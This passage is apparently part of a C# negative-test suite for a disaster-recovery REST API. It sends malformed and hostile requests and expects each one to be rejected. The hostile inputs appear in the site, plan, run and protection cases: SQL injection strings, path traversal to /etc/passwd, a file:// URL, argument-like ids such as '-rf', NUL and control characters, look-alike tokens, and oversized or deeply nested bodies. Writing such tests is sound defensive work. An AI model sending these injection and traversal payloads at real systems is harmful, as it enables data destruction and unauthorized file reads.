        yield return Get("a lag history of no hours", $"/v1/plans/{t.Plan}/status?history=0");
        yield return Get("a newline in the name filter", "/v1/sites?name=site-a%0A");
        yield return Get("a NUL in a query parameter's name", "/v1/plans?protection%00_id=x");
        yield return Get("a NUL in the marker", "/v1/runs?marker=%00");
        yield return Get("an escape character in a path id", $"/v1/runs/{t.Run}%1B");

        var plan = $"\"plan_id\":\"{t.Plan}\"";
        foreach (var (what, point) in new[]
        {
            ("a NUL in the recovery point", "latest\\u0000"),
            ("a tab in the recovery point", "latest\\t"),
            ("SQL after latest", "latest; DROP TABLE runs"),
            ("30 February", "2026-02-30T00:00:00Z"),
            ("hour 25", "2026-01-01T25:00:00Z"),
            ("a time without its zone", "2026-01-01T00:00:00"),
            ("a date alone", "2026-01-01"),
            ("LATEST in capitals", "LATEST"),
            ("latest with a space", " latest"),
            ("a point id cut short", "array-a:draas-x"),
            ("a pod point that is no number", "draas-x@yesterday"),
            ("a path as a point", "../../etc/passwd"),
        })
        {
            yield return Send("POST", $"recovery point: {what}", "/v1/runs", $"{{\"run\":{{{plan},\"kind\":\"drill\",\"recovery_point\":\"{point}\"}}}}");
            yield return Send("POST", $"recovery point in a dry run: {what}", "/v1/runs", $"{{\"run\":{{{plan},\"kind\":\"drill\",\"dry_run\":true,\"recovery_point\":\"{point}\"}}}}");
        }

        // NUL and control characters inside body strings, keys and nested JSON, and in free text.
        yield return Send("PUT", "a NUL in the description (free text)", $"/v1/plans/{t.Plan}", "{\"plan\":{\"description\":\"a\\u0000b\"}}");
        yield return Send("PUT", "a bell in the description (free text)", $"/v1/sites/{t.SiteA}", "{\"site\":{\"description\":\"ding\\u0007\"}}");
        yield return Send("PUT", "a NUL in a field's name", $"/v1/sites/{t.SiteA}", "{\"site\":{\"descr\\u0000iption\":\"x\"}}");
        yield return Send("PUT", "a NUL in a network mapping key", $"/v1/protections/{t.Protection}", "{\"protection\":{\"network_mapping\":{\"private\\u0000\":\"private\"}}}");
        yield return Send("PUT", "a NUL in a selector tag", $"/v1/plans/{t.Plan}", "{\"plan\":{\"selector\":{\"tag\":\"draas:protect\\u0000\"}}}");
        yield return Send("PUT", "a NUL in a health check's server", $"/v1/plans/{t.Plan}", "{\"plan\":{\"health_checks\":[{\"server\":\"web\\u0000\",\"port\":22}]}}");
        yield return Send("POST", "a NUL in a run option", "/v1/runs", $"{{\"run\":{{{plan},\"kind\":\"drill\",\"dry_run\":true,\"options\":{{\"network_mapping\":{{\"private\":\"x\\u0000\"}}}}}}}}");
        yield return Send("PUT", "a C1 control character in the password", $"/v1/sites/{t.SiteA}", "{\"site\":{\"password\":\"pw\\u0085\"}}");

        // A token that is not printable ASCII is the caller's 401, never a Keystone outage.
        foreach (var (what, token) in new[] { ("an accented letter", "gAAAAAtok\u00E9n"), ("an emoji", "gAAAAA\uD83D\uDE08"), ("a Cyrillic look-alike", "gAAAAAаdmin-token") })
            yield return Get($"a token with {what}", "/v1/sites", 401, token);

        // An update obeys the rules of a create: a plan keeps resources or a selector.
        yield return Send("PUT", "emptying the plan's resources", $"/v1/plans/{t.Plan}", "{\"plan\":{\"resources\":[]}}");
        yield return Send("PUT", "emptying the plan's resources with a new name", $"/v1/plans/{t.Plan}", "{\"plan\":{\"name\":\"renamed\",\"resources\":[]}}");

        // Blank or padded names and ids, one rule everywhere.
        const string SiteFields = "\"auth_url\":\"https://k.example/v3\",\"password\":\"pw\"";
        yield return Send("POST", "a blank user name", "/v1/sites", $"{{\"site\":{{\"name\":\"blank-user\",{SiteFields},\"username\":\"   \",\"project_name\":\"p\"}}}}");
        yield return Send("POST", "a blank project name", "/v1/sites", $"{{\"site\":{{\"name\":\"blank-project\",{SiteFields},\"username\":\"u\",\"project_name\":\" \"}}}}");
        yield return Send("POST", "a project name with a trailing space", "/v1/sites", $"{{\"site\":{{\"name\":\"padded-project\",{SiteFields},\"username\":\"u\",\"project_name\":\"p \"}}}}");
        yield return Send("PUT", "a blank user name on update", $"/v1/sites/{t.SiteA}", "{\"site\":{\"username\":\"\\u00A0\"}}");
        yield return Send("PUT", "a user domain with a leading space", $"/v1/sites/{t.SiteA}", "{\"site\":{\"user_domain_name\":\" Default\"}}");
        yield return Send("PUT", "a blank region", $"/v1/sites/{t.SiteA}", "{\"site\":{\"region_name\":\"\\t\"}}");
        yield return Send("PUT", "a blank network in the mapping", $"/v1/protections/{t.Protection}", "{\"protection\":{\"network_mapping\":{\"private\":\"  \"}}}");
        yield return Send("POST", "a project id with a leading dash", "/v1/protections",
            $"{{\"protection\":{{\"name\":\"dash-project\",\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":\"-rf\",\"recovery_site_id\":\"{t.SiteB}\"}}}}");
        yield return Send("PUT", "a recovery project id with a leading dash", $"/v1/protections/{t.Protection}", "{\"protection\":{\"recovery_project_id\":\"--help\"}}");

        // Enums, kinds and plugin names: exactly their word, no other case, no spaces.
        foreach (var kind in new[] { "DRILL", "Drill", " drill", "drill ", "planned-migration" })
            yield return Send("POST", $"run kind '{kind}'", "/v1/runs", $"{{\"run\":{{{plan},\"kind\":\"{kind}\",\"dry_run\":true}}}}");
        foreach (var kind in new[] { "VOLUME", "Volume", " volume" })
            yield return Send("PUT", $"resource kind '{kind}'", $"/v1/plans/{t.Plan}", $"{{\"plan\":{{\"resources\":[{{\"kind\":\"{kind}\",\"id\":\"{t.Volume}\"}}]}}}}");
        yield return Send("PUT", "replication mode 'ASYNC'", $"/v1/plans/{t.Plan}", "{\"plan\":{\"replication\":{\"mode\":\"ASYNC\"}}}");
        foreach (var plugin in new[] { "PURE", "Pure", " pure", "pure " })
            yield return Send("POST", $"plugin '{plugin}'", "/v1/arrays",
                $"{{\"array\":{{\"name\":\"case-array\",\"site_id\":\"{t.SiteA}\",\"plugin\":\"{plugin}\",\"endpoint\":\"https://fa.example\",\"api_token\":\"t\",\"cinder_backend\":\"h@b#p\"}}}}");
        yield return Send("PUT", "interface 'Public'", $"/v1/sites/{t.SiteA}", "{\"site\":{\"interface\":\"Public\"}}");
        yield return Send("PUT", "auth type 'PASSWORD'", $"/v1/sites/{t.SiteA}", "{\"site\":{\"auth_type\":\"PASSWORD\"}}");
        yield return Get("run kind filter 'DRILL'", "/v1/runs?kind=DRILL");
        yield return Get("run state filter ' succeeded'", "/v1/runs?state=%20succeeded");

        // /metrics: every plan's id and lag, so a token (and GET) on the API port.
        yield return Get("metrics without a token", "/metrics", 401, token: null);
        yield return Get("metrics for a project member", "/metrics", 403, LabWithHistory.MemberA);
        yield return Send("POST", "metrics posted without a token", "/metrics", "{}", 401, token: null);
        yield return Send("POST", "metrics posted by an admin", "/metrics", "{}", 405);
        yield return Send("DELETE", "metrics deleted by an admin", "/metrics", "{}", 405);
    }

    /// <summary>The first hostile cases, written by hand against /v1/sites, kept as they were.</summary>
    private static IEnumerable<HostileRequest> HandWrittenSites(HostileTargets t)
    {
        HostileRequest Case(string name, string method, string path, string? body, int expected, string contentType = "application/json") =>
            new(Label(method, path), name, method, path.Replace("{site}", t.SiteA), body, expected, contentType);
        const string Fields = "\"auth_url\":\"https://k/v3\",\"username\":\"u\",\"project_name\":\"p\",\"password\":\"x\"";
        yield return Case("broken JSON", "POST", "/v1/sites", "{\"site\": {\"name\": ", 400);
        yield return Case("not an object", "POST", "/v1/sites", "[1,2,3]", 400);
        yield return Case("empty body", "POST", "/v1/sites", "", 400);
        yield return Case("name as a number", "POST", "/v1/sites", $"{{\"site\":{{\"name\":42,{Fields}}}}}", 400);
        yield return Case("verify_tls as a string", "POST", "/v1/sites", $"{{\"site\":{{\"name\":\"n1\",{Fields},\"verify_tls\":\"yes\"}}}}", 400);
        yield return Case("unknown top-level field", "POST", "/v1/sites", $"{{\"site\":{{\"name\":\"n2\",{Fields}}},\"admin\":true}}", 400);
        yield return Case("unknown site field", "POST", "/v1/sites", $"{{\"site\":{{\"name\":\"n3\",{Fields},\"id\":\"00000000-0000-0000-0000-000000000001\"}}}}", 400);
        yield return Case("ten megabyte body", "POST", "/v1/sites", "{\"site\":{\"name\":\"big\",\"description\":\"" + new string('x', 10 * 1024 * 1024) + "\"}}", 413);
        yield return Case("SQL in the name", "POST", "/v1/sites", $"{{\"site\":{{\"name\":\"x'; DROP TABLE sites; --\",{Fields}}}}}", 400);
        yield return Case("path traversal in the name", "POST", "/v1/sites", $"{{\"site\":{{\"name\":\"../../etc/passwd\",{Fields}}}}}", 400);
        yield return Case("file URL as auth_url", "POST", "/v1/sites", "{\"site\":{\"name\":\"n4\",\"auth_url\":\"file:///etc/passwd\",\"username\":\"u\",\"project_name\":\"p\",\"password\":\"x\"}}", 400);
        yield return Case("credentials inside auth_url", "POST", "/v1/sites", "{\"site\":{\"name\":\"n5\",\"auth_url\":\"https://admin:pw@k/v3\",\"username\":\"u\",\"project_name\":\"p\",\"password\":\"x\"}}", 400);
        yield return Case("control characters in a field", "POST", "/v1/sites", "{\"site\":{\"name\":\"n6\",\"auth_url\":\"https://k/v3\",\"username\":\"u\\u0000\\n\",\"project_name\":\"p\",\"password\":\"x\"}}", 400);
        yield return Case("duplicate keys", "POST", "/v1/sites", $"{{\"site\":{{\"name\":\"n7\",\"name\":\"n8\",{Fields}}}}}", 400);
        yield return Case("deeply nested JSON", "POST", "/v1/sites", new string('[', 5000) + new string(']', 5000), 400);
        yield return Case("form data instead of JSON", "POST", "/v1/sites", "name=x&auth_url=y", 415, "application/x-www-form-urlencoded");
        yield return Case("SQL in the id", "GET", "/v1/sites/1%27%20OR%20%271%27=%271", null, 404);
        yield return Case("path traversal in the id", "GET", "/v1/sites/..%2F..%2Fetc%2Fpasswd", null, 404);
        yield return Case("negative limit", "GET", "/v1/sites?limit=-5", null, 400);
        yield return Case("marker that is not an id", "GET", "/v1/sites?marker=%27;DROP%20TABLE%20sites", null, 400);
        yield return Case("unknown action", "POST", "/v1/sites/{site}/action", "{\"format_disk\":{}}", 400);
        yield return Case("update with a wrong type", "PUT", "/v1/sites/{site}", "{\"site\":{\"description\":[\"a\"]}}", 400);
        yield return Case("update changing the auth type", "PUT", "/v1/sites/{site}", "{\"site\":{\"auth_type\":\"v3applicationcredential\"}}", 400);
        yield return Case("method not allowed", "PATCH", "/v1/sites", "{}", 405);
    }

    /// <summary>The route a request aims at: "GET /v1/plans/{id}/manifests/{n}", whatever the ids were.</summary>
    private static string Label(string method, string path)
    {
        var segments = path.Split('?')[0].Split('/');
        for (var i = 1; i < segments.Length; i++)
        {
            if (segments[i - 1] is "sites" or "arrays" or "protections" or "project-mappings" or "plans" or "runs") segments[i] = "{id}";
            else if (segments[i - 1] == "manifests") segments[i] = "{n}";
        }
        return $"{method} {string.Join('/', segments)}";
    }
}
